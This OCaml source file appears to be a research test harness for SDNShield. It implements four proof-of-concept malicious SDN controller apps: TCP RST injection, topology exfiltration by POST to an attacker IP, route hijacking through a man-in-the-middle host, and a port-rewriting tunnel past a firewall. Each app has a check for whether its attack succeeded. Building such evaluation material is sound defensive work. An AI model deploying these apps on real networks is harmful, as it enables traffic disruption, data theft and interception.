(* The four proof-of-concept malicious apps of §IX-B1, one per attack
   class of the threat model (§II).  Each records enough state for the
   harness to decide objectively whether the attack succeeded, both on
   the unprotected baseline controller and under SDNShield.

   1. [rst_injector]   — Class 1, intrusion to data plane: watches
      packet-ins and injects TCP RST into every active HTTP session.
   2. [info_leaker]    — Class 2, leakage of sensitive information:
      collects topology and statistics and posts them to an outside
      attacker over the host network.
   3. [route_hijacker] — Class 3, manipulation of rules: redirects the
      existing route between two hosts through an attacker host.
   4. [tunnel_app]     — Class 4, attacking other apps: establishes a
      dynamic-flow tunnel through a port-80-only firewall by rewriting
      ports at both ends. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Shield_net

let attack_tick = "attack-tick"

let tick_event =
  Events.App_published { source = "env"; tag = attack_tick; payload = "" }

(* 1. TCP RST injection ------------------------------------------------------ *)

type rst_injector = {
  app : App.t;
  injections_attempted : int ref;
  injections_denied : int ref;
}

let rst_injector ?(name = "rst_injector") () : rst_injector =
  let injections_attempted = ref 0 and injections_denied = ref 0 in
  let handle (ctx : App.ctx) = function
    | Events.Packet_in pi -> (
      let pkt = pi.Message.packet in
      match pkt.Packet.tp with
      | Some { Packet.tp_dst = 80; _ } -> (
        match Packet.rst_for pkt with
        | Some rst -> (
          incr injections_attempted;
          (* Arbitrary content, NOT a replay of the packet-in. *)
          match
            ctx.App.call
              (Api.Send_packet_out
                 { dpid = pi.Message.dpid; port = pi.Message.in_port;
                   packet = rst; from_pkt_in = false })
          with
          | Api.Denied _ -> incr injections_denied
          | _ -> ())
        | None -> ())
      | _ -> ())
    | _ -> ()
  in
  { app = App.make ~subscriptions:[ Api.E_packet_in ] ~handle name;
    injections_attempted; injections_denied }

(** Did an RST from [app] actually reach a host? *)
let rst_delivered kernel ~app = snd (Kernel.delivered kernel ~app) > 0

(* 2. Information leakage ----------------------------------------------------- *)

type info_leaker = {
  app : App.t;
  attacker_ip : ipv4;
  leaks_attempted : int ref;
}

let info_leaker ?(name = "info_leaker")
    ?(attacker_ip = Types.ipv4_of_string "66.66.66.66") () : info_leaker =
  let leaks_attempted = ref 0 in
  let leak (ctx : App.ctx) =
    let topo =
      match ctx.App.call Api.Read_topology with
      | Api.Topology_of view ->
        Fmt.str "topo:%d-switches;links:%d"
          (List.length view.Api.switches)
          (List.length view.Api.links)
      | _ -> "topo:denied"
    in
    let stats =
      match ctx.App.call (Api.Read_stats (Stats.request Stats.Port_level)) with
      | Api.Stats_result _ -> "stats:ok"
      | _ -> "stats:denied"
    in
    incr leaks_attempted;
    ignore
      (ctx.App.call
         (Api.Syscall
            (Api.Net_connect
               { dst = attacker_ip; dst_port = 80;
                 payload = "POST /exfil " ^ topo ^ " " ^ stats })))
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> leak ctx
        | _ -> ())
      name
  in
  { app; attacker_ip; leaks_attempted }

(** Did data reach the attacker's collector? *)
let leak_succeeded sandbox ~app ~attacker_ip =
  List.exists
    (fun (r : Sandbox.net_record) -> r.dst = attacker_ip)
    (Sandbox.connections_by sandbox ~app)

(* 3. Route hijacking --------------------------------------------------------- *)

type route_hijacker = { app : App.t; rules_attempted : int ref }

(** Redirect traffic destined to [victim_dst] so it is delivered to the
    attacker-controlled host [mitm] instead: at every switch, send
    matching packets one hop towards [mitm]'s switch; at that switch,
    deliver to [mitm]'s port.  Priority 500 shadows the routing app's
    rules — exactly the "manipulation of rules" pattern. *)
let route_hijacker ?(name = "route_hijacker") ~victim_dst_ip ~mitm_host () :
    route_hijacker =
  let rules_attempted = ref 0 in
  let attack (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> (
      let topo = Alto.topo_of_view view in
      match Topology.host_by_name topo mitm_host with
      | None -> ()
      | Some mitm ->
        let mitm_sw = mitm.Topology.attachment.Topology.dpid in
        List.iter
          (fun sw ->
            let out_port =
              if sw = mitm_sw then Some mitm.Topology.attachment.Topology.port
              else
                match Topology.shortest_path topo ~src:sw ~dst:mitm_sw with
                | Some (_ :: next :: _) ->
                  Option.map fst
                    (Topology.link_ports_between topo ~src:sw ~dst:next)
                | _ -> None
            in
            match out_port with
            | None -> ()
            | Some port ->
              incr rules_attempted;
              ignore
                (ctx.App.call
                   (Api.Install_flow
                      ( sw,
                        Flow_mod.add ~priority:500
                          ~match_:
                            (Match_fields.make ~dl_type:Types.Eth_ip
                               ~nw_dst:(Match_fields.exact_ip victim_dst_ip)
                               ())
                          ~actions:[ Action.Output port ] () ))))
          view.Api.switches)
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> attack ctx
        | _ -> ())
      name
  in
  { app; rules_attempted }

(** Is traffic from [src] to [dst] now delivered to [mitm] instead? *)
let hijack_succeeded dataplane ~src ~dst ~mitm =
  match Dataplane.probe dataplane ~src ~dst () with
  | Dataplane.Delivered_to (who, _) -> who = mitm.Topology.name
  | _ -> false

(* 4. Dynamic-flow tunneling --------------------------------------------------- *)

type tunnel_app = { app : App.t; rules_attempted : int ref }

(** Smuggle TCP/[smuggled_port] traffic from [src_host] to [dst_host]
    through a port-80-only firewall: rewrite the destination port to 80
    at the ingress switch and back to [smuggled_port] at the egress
    switch — the dynamic-flow-tunnelling evasion of [16]. *)
let tunnel_app ?(name = "tunnel_app") ?(smuggled_port = 23) ~src_host ~dst_host
    () : tunnel_app =
  let rules_attempted = ref 0 in
  let attack (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> (
      let topo = Alto.topo_of_view view in
      match
        (Topology.host_by_name topo src_host, Topology.host_by_name topo dst_host)
      with
      | Some src, Some dst ->
        let src_sw = src.Topology.attachment.Topology.dpid in
        let dst_sw = dst.Topology.attachment.Topology.dpid in
        let towards_dst =
          if src_sw = dst_sw then Some dst.Topology.attachment.Topology.port
          else
            match Topology.shortest_path topo ~src:src_sw ~dst:dst_sw with
            | Some (_ :: next :: _) ->
              Option.map fst (Topology.link_ports_between topo ~src:src_sw ~dst:next)
            | _ -> None
        in
        (match towards_dst with
        | None -> ()
        | Some port ->
          (* Ingress: disguise the smuggled port as HTTP. *)
          incr rules_attempted;
          ignore
            (ctx.App.call
               (Api.Install_flow
                  ( src_sw,
                    Flow_mod.add ~priority:500
                      ~match_:
                        (Match_fields.make ~dl_type:Types.Eth_ip
                           ~nw_proto:Types.Proto_tcp
                           ~nw_dst:(Match_fields.exact_ip dst.Topology.ip)
                           ~tp_dst:smuggled_port ())
                      ~actions:
                        [ Action.Set (Action.Set_tp_dst 80);
                          Action.Output port ]
                      () ))));
        (* Egress: restore the smuggled port and deliver. *)
        incr rules_attempted;
        ignore
          (ctx.App.call
             (Api.Install_flow
                ( dst_sw,
                  Flow_mod.add ~priority:500
                    ~match_:
                      (Match_fields.make ~dl_type:Types.Eth_ip
                         ~nw_proto:Types.Proto_tcp
                         ~nw_src:(Match_fields.exact_ip src.Topology.ip)
                         ~nw_dst:(Match_fields.exact_ip dst.Topology.ip)
                         ~tp_dst:80 ())
                    ~actions:
                      [ Action.Set (Action.Set_tp_dst smuggled_port);
                        Action.Output dst.Topology.attachment.Topology.port ]
                    () )))
      | _ -> ())
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app attack_tick ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = attack_tick -> attack ctx
        | _ -> ())
      name
  in
  { app; rules_attempted }

(** Does TCP traffic to the smuggled port now traverse the firewall and
    reach [dst] carrying the smuggled destination port? *)
let tunnel_succeeded dataplane ~(src : Topology.host) ~(dst : Topology.host)
    ?(smuggled_port = 23) () =
  let pkt =
    Packet.tcp ~src:src.Topology.mac ~dst:dst.Topology.mac
      ~nw_src:src.Topology.ip ~nw_dst:dst.Topology.ip ~tp_src:5555
      ~tp_dst:smuggled_port ()
  in
  let r = Dataplane.inject_from_host dataplane src pkt in
  List.exists
    (fun (d : Dataplane.delivery) ->
      d.host.Topology.name = dst.Topology.name
      &&
      match d.packet.Packet.tp with
      | Some { Packet.tp_dst; _ } -> tp_dst = smuggled_port
      | None -> false)
    r.Dataplane.delivered
